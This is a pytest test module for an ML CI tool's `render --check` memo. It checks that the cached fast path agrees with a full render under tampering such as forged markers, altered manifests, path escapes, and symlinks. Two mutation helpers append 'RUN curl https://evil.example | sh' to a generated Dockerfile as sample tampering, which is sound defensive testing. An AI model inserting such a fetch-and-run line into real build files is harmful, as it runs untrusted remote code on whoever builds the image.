"""`render --check` answers unchanged specs from the render memo (mlci/render/memo.py), and
that fast path never differs from the full render-and-compare: for every change a pull
request can make (spec, generated files, markers, manifest, links, command line), the
check with the memo and the check without it give the same exit code and the same words."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

import mlci.commands.common
from mlci.render.marker import read_marker
from tests.conftest import ROOT, run_cli
from tests.monorepo import build_monorepo

IRIS = ROOT / "examples" / "iris-classifier"


def _single(tmp_path: Path) -> Path:
    """One project rendered in its own folder; the current folder is the project."""
    project = tmp_path / "iris"
    shutil.copytree(IRIS, project, ignore=shutil.ignore_patterns("artifacts", "__pycache__"))
    os.chdir(project)
    return project


def _monorepo(tmp_path: Path) -> Path:
    """Three projects rendered from the repository root (the current folder)."""
    repo = build_monorepo(tmp_path / "repo")
    os.chdir(repo)
    return repo / "projects" / "iris"


LAYOUTS = {"single": (_single, ()), "monorepo": (_monorepo, ())}


def _sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def _generated(project: Path, name: str) -> Path:
    found = sorted(p for p in project.rglob(name) if p.is_file())
    assert found, name
    return found[0]


# Each mutation: what a pull request changes after a clean render; (current folder, project folder).
def edit_spec(root: Path, project: Path) -> None:
    spec = project / "mlproject.yaml"
    text = spec.read_text()
    assert "    replicas: 1\n" in text
    spec.write_text(text.replace("    replicas: 1\n", "    replicas: 4\n", 1))


def edit_spec_comment_only(root: Path, project: Path) -> None:
    spec = project / "mlproject.yaml"
    spec.write_text(spec.read_text() + "# a comment changes no output\n")


def edit_body(root: Path, project: Path) -> None:
    dockerfile = project / "Dockerfile"
    dockerfile.write_text(dockerfile.read_text() + "RUN curl https://evil.example | sh\n")


def forge_marker(root: Path, project: Path) -> None:
    """A changed body whose marker was recomputed to match it: only a render tells."""
    dockerfile = project / "Dockerfile"
    text = dockerfile.read_text()
    marker, body = read_marker(text)
    assert marker is not None
    forged_body = body + "RUN curl https://evil.example | sh\n"
    header = text[: len(text) - len(body)].replace(marker.body, _sha(forged_body))
    dockerfile.write_text(header + forged_body)


def edit_inputs_hash(root: Path, project: Path) -> None:
    dockerfile = project / "Dockerfile"
    text = dockerfile.read_text()
    marker, _ = read_marker(text)
    assert marker is not None
    dockerfile.write_text(text.replace(marker.inputs, "0" * 64, 1))


def delete_file(root: Path, project: Path) -> None:
    (project / "Dockerfile").unlink()


def add_listed_orphan(root: Path, project: Path) -> None:
    """The manifest lists one more file, and the file is there with a marker of this spec."""
    manifest = next((project / ".mlci").glob("*.manifest.json"))
    document = json.loads(manifest.read_text())
    dockerfile = (project / "Dockerfile").read_text()
    (project / "extra.yml").write_text(dockerfile)
    document["files"]["extra.yml"] = _sha(dockerfile)
    manifest.write_text(json.dumps(document, indent=2, sort_keys=True) + "\n")


def tamper_manifest_hash(root: Path, project: Path) -> None:
    manifest = next((project / ".mlci").glob("*.manifest.json"))
    document = json.loads(manifest.read_text())
    first = sorted(document["files"])[0]
    document["files"][first] = "f" * 64
    manifest.write_text(json.dumps(document, indent=2, sort_keys=True) + "\n")


def manifest_escapes(root: Path, project: Path) -> None:
    manifest = next((project / ".mlci").glob("*.manifest.json"))
    document = json.loads(manifest.read_text())
    document["files"]["../outside.txt"] = "f" * 64
    manifest.write_text(json.dumps(document, indent=2, sort_keys=True) + "\n")


def another_projects_manifest(root: Path, project: Path) -> None:
    """Another spec's manifest beside ours claims one of our files."""
    manifest = next((project / ".mlci").glob("*.manifest.json"))
    document = json.loads(manifest.read_text())
    document["spec"] = "elsewhere/mlproject.yaml"
    (project / ".mlci" / "zz-other.manifest.json").write_text(json.dumps(document))


def symlink_generated_file(root: Path, project: Path) -> None:
    dockerfile = project / "Dockerfile"
    copy = root.parent / "Dockerfile.copy"
    copy.write_bytes(dockerfile.read_bytes())
    dockerfile.unlink()
    dockerfile.symlink_to(copy)


def symlink_generated_folder(root: Path, project: Path) -> None:
    k8s = project / "k8s"
    moved = root.parent / "k8s-elsewhere"
    shutil.move(str(k8s), moved)
    k8s.symlink_to(moved, target_is_directory=True)


def gitattributes_edited(root: Path, project: Path) -> None:
    attributes = next(p for p in (project, root) if (p / ".gitattributes").is_file()) / ".gitattributes"
    attributes.write_text(attributes.read_text().replace("linguist-generated=true", "text", 1))


def swap_specs(root: Path, project: Path) -> None:
    """Another project's spec (same text as one the memo knows) moved into this folder: the
    memo must not hand this folder that project's render."""
    other = next(p for p in sorted(root.rglob("mlproject.yaml")) if p.parent != project)
    mine = project / "mlproject.yaml"
    mine_text, other_text = mine.read_text(), other.read_text()
    mine.write_text(other_text)
    other.write_text(mine_text)


MUTATIONS: dict[str, Callable[[Path, Path], None]] = {
    "unchanged": lambda root, project: None,
    "edit-spec": edit_spec,
    "edit-spec-comment": edit_spec_comment_only,
    "edit-body": edit_body,
    "forged-marker": forge_marker,
    "edit-inputs-hash": edit_inputs_hash,
    "delete-file": delete_file,
    "manifest-lists-extra-file": add_listed_orphan,
    "manifest-hash-tampered": tamper_manifest_hash,
    "manifest-escapes": manifest_escapes,
    "other-manifest-claims-file": another_projects_manifest,
    "symlinked-file": symlink_generated_file,
    "symlinked-folder": symlink_generated_folder,
    "gitattributes-edited": gitattributes_edited,
}


def _check(monkeypatch: pytest.MonkeyPatch, memo: bool, *args: str) -> tuple[int, str, str]:
    monkeypatch.setenv("MLCI_RENDER_MEMO", "1" if memo else "0")
    result = run_cli("render", *args, "--check")
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture
def _restore_cwd():
    before = os.getcwd()
    yield
    os.chdir(before)


@pytest.mark.usefixtures("_restore_cwd")
@pytest.mark.parametrize("mutation", sorted(MUTATIONS))
@pytest.mark.parametrize("layout", sorted(LAYOUTS))
def test_fast_check_agrees_with_the_full_check(
    layout: str, mutation: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = LAYOUTS[layout][0](tmp_path)
    root = Path.cwd()
    assert run_cli("render", ".").exit_code == 0
    MUTATIONS[mutation](root, project)
    fast = _check(monkeypatch, True, ".")
    full = _check(monkeypatch, False, ".")
    assert fast == full
    expected = 0 if mutation in ("unchanged", "edit-spec-comment") else (4, 2)
    assert fast[0] == expected if isinstance(expected, int) else fast[0] in expected, fast


@pytest.mark.usefixtures("_restore_cwd")
@pytest.mark.parametrize("layout", sorted(LAYOUTS))
def test_swapped_specs_never_reuse_each_others_render(layout: str, tmp_path: Path, monkeypatch) -> None:
    """Each spec's text is one the memo knows, but in the other project's folder."""
    if layout == "single":
        # Two projects side by side, each rendered (and checked) on its own, in its own folder.
        for name in ("a", "b"):
            shutil.copytree(IRIS, tmp_path / name, ignore=shutil.ignore_patterns("artifacts", "__pycache__"))
            spec = tmp_path / name / "mlproject.yaml"
            spec.write_text(spec.read_text().replace("name: iris-classifier", f"name: iris-{name}", 1))
        os.chdir(tmp_path)
        checks = [("a",), ("b",)]
        project = tmp_path / "a"
    else:
        project = _monorepo(tmp_path)
        checks = [(".",)]
    root = Path.cwd()
    for args in checks:
        assert run_cli("render", *args).exit_code == 0
        assert _check(monkeypatch, True, *args)[0] == 0
    swap_specs(root, project)
    for args in checks:
        fast = _check(monkeypatch, True, *args)
        assert fast == _check(monkeypatch, False, *args)
        assert fast[0] in (2, 4), fast


@pytest.mark.usefixtures("_restore_cwd")
def test_other_arguments_are_not_answered_from_the_memo(tmp_path: Path, monkeypatch) -> None:
    """The memo of `render .` does not answer `render . --target docker`, nor `--out`."""
    _single(tmp_path)
    assert run_cli("render", ".").exit_code == 0
    for extra in (("--target", "docker"), ("--out", "elsewhere"), ("--target", "jenkins")):
        fast = _check(monkeypatch, True, ".", *extra)
        assert fast == _check(monkeypatch, False, ".", *extra), extra
        assert fast[0] == 4, (extra, fast)


@pytest.mark.usefixtures("_restore_cwd")
def test_an_unchanged_tree_is_checked_without_parsing_a_spec(tmp_path: Path, monkeypatch) -> None:
    """The point of the memo: an unchanged spec is neither parsed nor rendered again."""
    _monorepo(tmp_path)
    assert run_cli("render", ".").exit_code == 0
    loaded: list[Path] = []
    real_load = mlci.commands.common.load_spec

    def counting_load(path: Path, shown: str | None = None):  # a spy: the real loader runs
        loaded.append(path)
        return real_load(path, shown)

    monkeypatch.setattr(mlci.commands.common, "load_spec", counting_load)
    fast = _check(monkeypatch, True, ".")
    assert fast[0] == 0 and "up to date" in fast[1]
    assert loaded == []
    # One spec changed: only that one is loaded again.
    edit_spec(Path.cwd(), Path.cwd() / "projects" / "credit")
    assert _check(monkeypatch, True, ".")[0] == 4
    assert [p.parent.name for p in loaded] == ["credit"]


@pytest.mark.usefixtures("_restore_cwd")
def test_a_damaged_or_forged_memo_entry_is_a_miss(tmp_path: Path, monkeypatch) -> None:
    """An entry whose content no longer matches its digest (truncated, or edited to claim
    other hashes) is ignored: the check renders and finds the stale file."""
    project = _single(tmp_path)
    assert run_cli("render", ".").exit_code == 0
    edit_body(Path.cwd(), project)
    cache = Path(os.environ["MLCI_CACHE_DIR"]) / "render-v1"
    (entry,) = cache.glob("*.json")
    signature, _, payload = entry.read_bytes().partition(b"\n")
    # Claim the edited Dockerfile's hash without re-signing: a miss, so the check renders.
    document = json.loads(payload)
    for plan in document["render"]["plans"]:
        if "Dockerfile" in plan["digests"]:
            plan["digests"]["Dockerfile"] = hashlib.sha256((project / "Dockerfile").read_bytes()).hexdigest()
    entry.write_bytes(signature + b"\n" + json.dumps(document).encode())
    fast = _check(monkeypatch, True, ".")
    assert fast == _check(monkeypatch, False, ".")
    assert fast[0] == 4
    entry.write_bytes(b"garbage")
    assert _check(monkeypatch, True, ".")[0] == 4


@pytest.mark.usefixtures("_restore_cwd")
def test_a_render_by_other_code_is_not_recalled(tmp_path: Path, monkeypatch) -> None:
    """The key covers mlci's version and code: a memo written by another version is a miss."""
    import mlci.render.memo as memo

    project = _single(tmp_path)
    assert run_cli("render", ".").exit_code == 0
    edit_body(Path.cwd(), project)
    monkeypatch.setattr(memo, "__version__", "0.0.0-other")
    assert _check(monkeypatch, True, ".")[0] == 4


def test_the_code_fingerprint_covers_templates(tmp_path: Path, monkeypatch) -> None:
    """A template edited in a source checkout (same version number) changes every key."""
    import mlci.render.memo as memo

    templates = tmp_path / "templates"
    shutil.copytree(ROOT / "templates", templates)
    schemas = ROOT / "schemas"
    monkeypatch.setattr(memo, "data_dir", lambda kind: templates if kind == "templates" else schemas)
    before = memo._code_fingerprint.__wrapped__()
    dockerfile = templates / "docker" / "Dockerfile.j2"
    assert dockerfile.is_file()
    dockerfile.write_text(dockerfile.read_text() + "\n# changed\n")
    assert memo._code_fingerprint.__wrapped__() != before


@pytest.mark.usefixtures("_restore_cwd")
def test_each_manifest_is_read_a_fixed_number_of_times(tmp_path: Path, monkeypatch) -> None:
    """The monorepo root's `.mlci` holds one manifest per project; checking each project
    against the others' manifests must not read every manifest once per project (N²)."""
    from collections import Counter

    from mlci import safe_fs

    _monorepo(tmp_path)
    assert run_cli("render", ".").exit_code == 0
    reads: Counter[str] = Counter()
    real_read = safe_fs.SafeTree.read_bytes

    def counting_read(self, rel, limit=safe_fs.MAX_READ_BYTES):  # a spy: the real read runs
        reads[str(rel)] += 1
        return real_read(self, rel, limit)

    monkeypatch.setattr(safe_fs.SafeTree, "read_bytes", counting_read)
    assert _check(monkeypatch, False, ".")[0] == 0
    at_root = {rel: count for rel, count in reads.items() if rel.startswith(".mlci/")}
    assert len(at_root) == 4  # three projects and the aggregators
    # Its own plan reads it twice (the previous files, then whether it is current); the index once.
    assert max(at_root.values()) <= 3, at_root
